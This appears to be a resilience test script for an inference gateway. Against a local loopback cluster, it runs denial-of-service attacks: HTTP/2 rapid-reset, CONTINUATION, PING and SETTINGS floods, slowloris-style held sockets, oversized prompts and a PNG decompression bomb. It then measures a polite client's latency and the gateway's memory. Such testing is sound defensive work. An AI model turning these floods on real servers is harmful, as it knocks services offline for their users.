"""One hostile client at a time against a local cluster, and a polite one beside it.

usage: attack.py TRIPTYCH MODEL [ATTACK ...]
Prints a line an attack: what was sent and how fast, the polite client's P95 alone and beside it,
and what the gateway's memory grew by. Ends with 1 where a polite request failed, the memory grew by
more than 512 MiB, or the P95 more than the attack's bound, with 100 ms of grace for a busy machine.
Each attack lasts 8 s, in a process that works half of the time. Loopback only.
"""

import http.client
import json
import multiprocessing
import os
import re
import socket
import struct
import subprocess
import sys
import time
import zlib
import base64

SECONDS = 8
GRACE_S = 0.1
MAX_GROWTH = 512 << 20
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RESET, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(
        ">I", stream) + payload


def field(name, value):
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


CALL = (field(b":method", b"POST") + field(b":scheme", b"http")
        + field(b":path", b"/triptych.v1.Inference/Generate")
        + field(b"content-type", b"application/grpc") + field(b"te", b"trailers"))


def connect(address):
    """From an address of the attacker's own: the polite client is somebody else."""
    host, port = address.rsplit(":", 1)
    return socket.create_connection((host, int(port)), timeout=5,
                                    source_address=("127.0.0.2", 0))


def half_the_time(until):
    """Yields as often as it may, and sleeps as long as the caller worked."""
    while time.monotonic() < until:
        begin = time.monotonic()
        yield
        time.sleep(min(0.05, time.monotonic() - begin))


def http2_flood(address, until, frames):
    """(connections, frames): connects again whenever it is cut off."""
    connections = sent = 0
    for _ in half_the_time(until):
        try:
            with connect(address) as client:
                connections += 1
                client.sendall(PREFACE + frame(SETTINGS, 0, 0))
                number = 1
                while time.monotonic() < until:
                    begin = time.monotonic()
                    client.sendall(b"".join(frames(number + i) for i in range(100)))
                    number += 100
                    sent += 100
                    time.sleep(time.monotonic() - begin)
        except OSError:
            pass
    return connections, sent


def rapid_reset(cluster, until):
    return http2_flood(cluster["grpc"], until, lambda n: frame(HEADERS, 4, 2 * n + 1, CALL)
                       + frame(RESET, 0, 2 * n + 1, b"\0\0\0\x08"))


def half_calls(cluster, until):
    """Calls that never send their request, and 100 kB of one that never ends."""
    return http2_flood(cluster["grpc"], until, lambda n: frame(HEADERS, 4, 2 * n + 1, CALL)
                       + frame(DATA, 0, 2 * n + 1, b"\0\xff" * 5000))


def continuation(cluster, until):
    return http2_flood(cluster["grpc"], until, lambda n: frame(HEADERS, 0, 1, CALL) if n == 1
                       else frame(CONTINUATION, 0, 1, field(b"a", b"b" * 100)))


def pings(cluster, until):
    return http2_flood(cluster["grpc"], until, lambda n: frame(PING, 0, 0, b"12345678"))


def settings(cluster, until):
    return http2_flood(cluster["grpc"], until, lambda n: frame(SETTINGS, 0, 0))


def silence(cluster, until):
    """Sockets that say nothing, at both client ports."""
    held = []
    for _ in half_the_time(until):
        try:
            held.append(connect(cluster["grpc" if len(held) % 2 else "http"]))
        except OSError:
            time.sleep(0.1)
        if len(held) > 3000:
            held = held[1500:]
    return len(held), 0


def silent_bodies(cluster, until):
    """Bodies of 64 MiB that are announced and never come."""
    held = []
    for _ in half_the_time(until):
        client = connect(cluster["http"])
        client.sendall(b"POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\n"
                       b"Content-Length: 67108864\r\n\r\n")
        held.append(client)
        time.sleep(0.05)
    return len(held), len(held)


def post(cluster, body, leave=None):
    text = json.dumps(body).encode()
    client = connect(cluster["http"])
    client.sendall(b"POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n"
                   % len(text) + text + (leave or b""))
    return client


def says(text, picture=None, **more):
    content = [{"type": "text", "text": text}]
    if picture is not None:
        url = "data:image/png;base64," + base64.b64encode(picture).decode()
        content.insert(0, {"type": "image_url", "image_url": {"url": url}})
    return {"messages": [{"role": "user", "content": content}], "max_tokens": 4, **more}


def departures(cluster, until):
    """Requests with an early byte behind them, and gone at once."""
    sent = 0
    for _ in half_the_time(until):
        post(cluster, says("Tell a long story.", max_tokens=200), b"G").close()
        sent += 1
        time.sleep(0.02)
    return sent, sent


def prompts(cluster, until):
    """Bodies that are long to read, eight at a time: texts that no context holds, and numbers."""
    sent, held = 0, []
    bodies = [says("the" * 1_300_000), says("word " * 800_000),
              dict(says("hi"), stop=[1] * 2_000_000)]
    texts = [json.dumps(body).encode() for body in bodies]
    for _ in half_the_time(until):
        try:
            client = connect(cluster["http"])
            text = texts[sent % len(texts)]
            client.sendall(b"POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\n"
                           b"Content-Length: %d\r\n\r\n" % len(text) + text)
            held.append(client)
        except OSError:
            pass
        sent += 1
        if len(held) > 8:
            held.pop(0).close()
    return sent, sent


def png_chunk(kind, body):
    return (struct.pack(">I", len(body)) + kind + body
            + struct.pack(">I", zlib.crc32(kind + body) & 0xffffffff))


def png(width, height, pixels):
    return (b"\x89PNG\r\n\x1a\n"
            + png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
            + png_chunk(b"IDAT", pixels) + png_chunk(b"IEND", b""))


def slow_pictures(cluster, until):
    """PNGs of 16 megapixels, eight a request, and one that inflates to 200 MB behind its pixel."""
    flat = png(4000, 4000, zlib.compress(b"\0" * (4000 * 12001), 1))
    bomb = png(64, 64, zlib.compress(b"\0" * (64 * 193) + b"\0" * (200 << 20), 9))
    content = [{"type": "image_url", "image_url": {
        "url": "data:image/png;base64," + base64.b64encode(p).decode()}}
        for p in [flat] * 7 + [bomb]]
    body = {"messages": [{"role": "user", "content": content}], "max_tokens": 1}
    held = []
    for _ in half_the_time(until):
        if len(held) < 16:
            held.append(post(cluster, body))
        else:
            held.pop(0).close()
        time.sleep(0.1)
    return len(held), len(held)


# name: (attack, times that the polite client's P95 may grow)
ATTACKS = {
    "rapid_reset": (rapid_reset, 3), "half_calls": (half_calls, 3),
    "continuation": (continuation, 3), "pings": (pings, 3),
    "settings": (settings, 3), "silence": (silence, 2), "silent_bodies": (silent_bodies, 2),
    "departures": (departures, 2), "prompts": (prompts, 2), "slow_pictures": (slow_pictures, 2),
}


def polite(cluster, until, picture):
    """Latencies of one small request after the other; None for one that failed."""
    latencies = []
    while time.monotonic() < until:
        begin = time.monotonic()
        host, port = cluster["http"].rsplit(":", 1)
        try:
            client = http.client.HTTPConnection(host, int(port), timeout=30)
            client.request("POST", "/v1/chat/completions",
                           json.dumps(says("What is it?", picture)),
                           {"Content-Type": "application/json"})
            latencies.append(time.monotonic() - begin if client.getresponse().status == 200
                             else None)
            client.close()
        except OSError:
            latencies.append(None)
        time.sleep(0.05)
    return latencies


def p95(latencies):
    good = sorted(value for value in latencies if value is not None)
    return good[int(0.95 * (len(good) - 1))] if good else float("inf")


def resident(pid):
    with open(f"/proc/{pid}/status", encoding="ascii") as status:
        return int(re.search(r"VmRSS:\s+(\d+) kB", status.read()).group(1)) << 10


def gateway_pid(triptych):
    seen = json.loads(subprocess.run([triptych, "status", "--json"], check=True,
                                     capture_output=True, text=True).stdout)
    return next(p["pid"] for p in seen["processes"] if p["name"] == "gateway")


def run(name, cluster, pid, picture):
    attack, bound = ATTACKS[name]
    alone = polite(cluster, time.monotonic() + SECONDS / 2, picture)
    before, peak = resident(pid), 0
    until = time.monotonic() + SECONDS
    with multiprocessing.Pool(2) as pool:
        hostile = pool.apply_async(attack, (cluster, until))
        beside = pool.apply_async(polite, (cluster, until, picture))
        while time.monotonic() < until:
            peak = max(peak, resident(pid))
            time.sleep(0.05)
        connections, sent = hostile.get(60)
        beside = beside.get(60)
    failed = sum(value is None for value in beside)
    good = (failed == 0 and peak - before < MAX_GROWTH
            and p95(beside) <= bound * p95(alone) + GRACE_S)
    verdict = "ok  " if good else "FAIL"
    print(f"{verdict} {name}: {connections} connections, {sent / SECONDS:.0f}/s; "
          f"polite P95 {p95(alone) * 1e3:.0f} -> {p95(beside) * 1e3:.0f} ms of {len(beside)}, "
          f"{failed} failed; gateway +{(peak - before) >> 20} MiB", flush=True)
    return good


def answered(cluster):
    """Answers that reached their end, by the gateway's own counters."""
    host, port = cluster["http"].rsplit(":", 1)
    client = http.client.HTTPConnection(host, int(port), timeout=30)
    client.request("GET", "/metrics")
    text = client.getresponse().read().decode()
    client.close()
    return sum(float(value) for value in re.findall(
        r'^triptych_terminals_total{reason="(?:stop|length)"} (\S+)', text, re.MULTILINE))


def bench(triptych, cluster, seconds, **flags):
    """Answers a second, once the load has lasted for some seconds."""
    mix = os.path.join(os.path.dirname(__file__), "..", "..", "bench", "mixes", "pictures.json")
    load = subprocess.Popen(
        [triptych, "bench", f"--server={cluster['grpc']}", f"--mix={mix}",
         f"--duration={seconds}", "--warm-up=0",
         *(f"--{name.replace('_', '-')}={value}" for name, value in flags.items())],
        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    time.sleep(4)
    before, begin = answered(cluster), time.monotonic()
    time.sleep(seconds - 5)
    rate = (answered(cluster) - before) / (time.monotonic() - begin)
    load.wait()
    return rate


def overload(triptych, cluster, picture):
    """Ten times what the cluster can, with deadlines: as much is answered in time as at best."""
    alone = polite(cluster, time.monotonic() + 4, picture)
    # What is not sent costs the generator time too, which is the cluster's here.
    peak = max(bench(triptych, cluster, 10, rate=rate, max_in_flight=64) for rate in (15, 30, 60))
    good = True
    for deadline in (2, 5, 30):
        reached = bench(triptych, cluster, 25, rate=10 * peak, deadline=f"{deadline}s")
        time.sleep(5)
        after = polite(cluster, time.monotonic() + 3, picture)
        fine = reached >= 0.9 * peak and p95(after) <= 2 * p95(alone) + GRACE_S
        good = good and fine
        print(f"{'ok  ' if fine else 'FAIL'} overload, {deadline} s: {reached:.1f}/s in time of "
              f"{10 * peak:.0f}/s, at best {peak:.1f}/s; 5 s after polite P95 "
              f"{p95(alone) * 1e3:.0f} -> {p95(after) * 1e3:.0f} ms", flush=True)
    return good


def main():
    triptych, model, *names = sys.argv[1:]
    up = subprocess.Popen([triptych, "up", f"--model={model}", "--http=127.0.0.1:0",
                           "--grpc=127.0.0.1:0", "--threads=1",
                           f"--log-dir={os.environ.get('ATTACK_LOGS', '')}"],
                          stdout=subprocess.PIPE, text=True)
    try:
        ready = up.stdout.readline()
        cluster = dict(word.split("=", 1) for word in ready.split()[1:])
        pid = gateway_pid(triptych)
        with open(os.path.join(os.path.dirname(model.rstrip("/")), "examples", "shapes.png"),
                  "rb") as file:
            picture = file.read()
        good = [overload(triptych, cluster, picture) if name == "overload"
                else run(name, cluster, pid, picture) for name in names or [*ATTACKS, "overload"]]
    finally:
        up.terminate()
        up.wait(20)
    sys.exit(0 if all(good) else 1)


if __name__ == "__main__":
    main()
